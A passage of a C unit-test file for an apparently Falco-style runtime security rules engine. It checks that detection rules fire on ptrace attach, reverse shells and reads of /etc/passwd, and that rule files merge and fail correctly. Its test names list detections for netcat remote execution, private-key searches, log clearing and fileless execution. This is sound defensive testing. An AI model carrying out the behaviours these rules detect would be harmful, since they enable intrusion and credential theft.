	ev.fd.typechar = MMR_RT_FD_PIPE;
	assert_false(fires(mamori, &ev, "mamori: reverse shell"));

	mmr_rt_event_init(&ev);
	ev.seq = ++seq;
	ev.type = MMR_RT_EVT_PTRACE;
	ev.proc = mmr_rt_proctab_get(procs, 600);
	mmr_rt_event_add_arg(&ev, "request", "PTRACE_SEIZE", 0x4206, true);
	assert_true(fires(mamori, &ev, "mamori: ptrace attach"));
	mmr_rt_strlcpy(ev.args[0].value, "PTRACE_TRACEME", sizeof(ev.args[0].value));
	assert_false(fires(mamori, &ev, "mamori: ptrace attach"));
}

static void all_mamori_rules_active(void **state)
{
	(void)state;
	size_t n;
	mmr_rt_rules_skipped(mamori, &n);
	assert_int_equal(n, 0);
	assert_int_equal(mmr_rt_rules_active(mamori), mmr_rt_rules_count(mamori));
	assert_true(mmr_rt_rules_count(mamori) >= 20);
}

/* ---- loading: merging and errors ---- */

static int load_str(const char *yaml, struct mmr_rt_rules **ret, struct mmr_error *e)
{
	struct mmr_rt_rules *r = mmr_rt_rules_new(NULL);
	int rc = mmr_rt_rules_load_buf(r, "t.yaml", yaml, strlen(yaml), e);
	if (rc == 0)
		rc = mmr_rt_rules_compile(r, e);
	if (rc < 0 || !ret)
		mmr_rt_rules_free(r);
	else
		*ret = r;
	return rc;
}

static void append_and_override(void **state)
{
	(void)state;
	struct mmr_rt_rules *r = NULL;
	struct mmr_error e = { 0 };
	const char *y =
		"- list: bins\n  items: [cat]\n"
		"- list: bins\n  items: [less]\n  append: true\n"
		"- macro: m\n  condition: proc.name in (bins)\n"
		"- rule: R\n  desc: d\n  condition: evt.type=openat and m\n  output: o %proc.name\n  priority: INFO\n"
		"- rule: R\n  condition: and fd.name startswith /etc\n  append: true\n"
		"- rule: R2\n  desc: d\n  condition: evt.type=openat\n  output: x\n  priority: DEBUG\n"
		"  exceptions:\n  - name: trusted\n    fields: [proc.name, fd.name]\n    comps: [=, startswith]\n    values:\n    - [vim, /etc/hosts]\n"
		"- rule: R2\n  output: y %fd.name\n  priority: ERROR\n  override:\n    output: replace\n    priority: replace\n"
		"- rule: R3\n  desc: d\n  condition: evt.type=openat\n  output: z\n  priority: DEBUG\n"
		"- rule: R3\n  enabled: false\n";
	assert_int_equal(load_str(y, &r, &e), 0);
	assert_int_equal(mmr_rt_rules_count(r), 3);
	assert_int_equal(mmr_rt_rules_active(r), 2);
	assert_false(mmr_rt_rules_find(r, "R3")->active);
	assert_int_equal(mmr_rt_rules_find(r, "R2")->priority, MMR_RT_PRIO_ERROR);
	assert_string_equal(mmr_rt_rules_find(r, "R2")->output, "y %fd.name");
	struct mmr_rt_event ev;
	exec_ev(&ev, 4000, 600, "less", "/usr/bin/less", NULL, (const char *[]){ "less", NULL });
	open_ev(&ev, 4000, "/etc/passwd", O_RDONLY, "O_RDONLY");
	assert_true(fires(r, &ev, "R"));
	assert_true(fires(r, &ev, "R2"));
	open_ev(&ev, 4000, "/tmp/passwd", O_RDONLY, "O_RDONLY");
	assert_false(fires(r, &ev, "R")); /* the appended condition */
	mmr_rt_strlcpy(mmr_rt_proctab_get(procs, 4000)->comm, "vim", 16);
	open_ev(&ev, 4000, "/etc/hosts", O_RDONLY, "O_RDONLY");
	assert_false(fires(r, &ev, "R2")); /* the exception */
	open_ev(&ev, 4000, "/etc/passwd", O_RDONLY, "O_RDONLY");
	assert_true(fires(r, &ev, "R2"));
	mmr_rt_rules_free(r);
}

static void unsupported_field_listed(void **state)
{
	(void)state;
	struct mmr_rt_rules *r = NULL;
	struct mmr_error e = { 0 };
	assert_int_equal(load_str("- rule: A\n  desc: d\n  condition: evt.type=execve and proc.env contains X\n  output: o\n  priority: INFO\n"
				  "- rule: B\n  desc: d\n  condition: evt.type=execve\n  output: o %k8s.deployment.name\n  priority: INFO\n"
				  "- rule: C\n  desc: d\n  condition: evt.type=execve\n  output: o\n  priority: INFO\n",
				  &r, &e), 0);
	size_t n;
	const struct mmr_rt_skipped *s = mmr_rt_rules_skipped(r, &n);
	assert_int_equal(n, 2);
	assert_string_equal(s[0].rule, "A");
	assert_string_equal(s[0].field, "proc.env");
	assert_string_equal(s[1].rule, "B");
	assert_string_equal(s[1].field, "k8s.deployment.name");
	assert_int_equal(mmr_rt_rules_active(r), 1);
	mmr_rt_rules_free(r);
}

static void expect_error(const char *yaml, int err, unsigned long line, const char *msgpart)
{
	struct mmr_error e = { 0 };
	int rc = load_str(yaml, NULL, &e);
	assert_int_equal(rc, -err);
	assert_string_equal(e.file, "t.yaml");
	if (line != e.line)
		fprintf(stderr, "line %lu: %s\n", e.line, e.msg);
	assert_int_equal(e.line, line);
	if (!strstr(e.msg, msgpart))
		fprintf(stderr, "msg: %s\n", e.msg);
	assert_non_null(strstr(e.msg, msgpart));
}

static void malformed_files(void **state)
{
	(void)state;
	expect_error("- rule: A\n  desc: d\n  condition: evt.type=execve and (proc.name=x\n  output: o\n  priority: INFO\n",
		     EBADMSG, 1, "expected ')'");
	expect_error("- list: a\n  items: [x]\n- rule: A\n  condition: x\n  output: o\n  priority: LOUD\n",
		     EBADMSG, 6, "unknown priority");
	expect_error("- macro: a\n  condition: b\n- macro: b\n  condition: a\n"
		     "- rule: A\n  desc: d\n  condition: a\n  output: o\n  priority: INFO\n",
		     ELOOP, 4, "macro cycle");
	expect_error("- rule: A\n  desc: d\n  condition: nosuchmacro\n  output: o\n  priority: INFO\n",
		     ENOENT, 1, "undefined macro");
	expect_error("- rule: A\n  desc: d\n  condition: [x\n", EBADMSG, 4, "YAML");
	expect_error("rule: A\n", EBADMSG, 1, "list of items");
	expect_error("- list: x\n  items: [a]\n  append: true\n- list: y\n  items: [b]\n  append: true\n",
		     EBADMSG, 1, "not defined");
	expect_error("- required_engine_version: 9.1.0\n", EPROTO, 1, "engine version");
	expect_error("- rule: A\n  desc: d\n  condition: proc.name < 3\n  output: o\n  priority: INFO\n",
		     EBADMSG, 1, "numeric");
	expect_error("- rule: A\n  desc: d\n  condition: evt.type=execve\n  priority: INFO\n", EBADMSG, 1, "no 'output'");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(stable_loads_fully),
		cmocka_unit_test(incubating_lists_unsupported),
		cmocka_unit_test(terminal_shell_in_container),
		cmocka_unit_test(read_sensitive_file_untrusted),
		cmocka_unit_test(netcat_rce_in_container),
		cmocka_unit_test(search_private_keys),
		cmocka_unit_test(clear_log_activities),
		cmocka_unit_test(contact_k8s_api),
		cmocka_unit_test(drop_and_execute),
		cmocka_unit_test(fileless_memfd),
		cmocka_unit_test(ptrace_attach),
		cmocka_unit_test(redirect_stdio_to_network),
		cmocka_unit_test(symlink_and_hardlink),
		cmocka_unit_test(kernel_module_and_packet_socket),
		cmocka_unit_test(release_agent_and_debugfs),
		cmocka_unit_test(aws_and_shm),
		cmocka_unit_test(mamori_exec_rules),
		cmocka_unit_test(mamori_file_rules),
		cmocka_unit_test(mamori_net_rules),
		cmocka_unit_test(all_mamori_rules_active),
		cmocka_unit_test(append_and_override),
		cmocka_unit_test(unsupported_field_listed),
		cmocka_unit_test(malformed_files),
	};
	return cmocka_run_group_tests(tests, load_rules, free_rules);
}
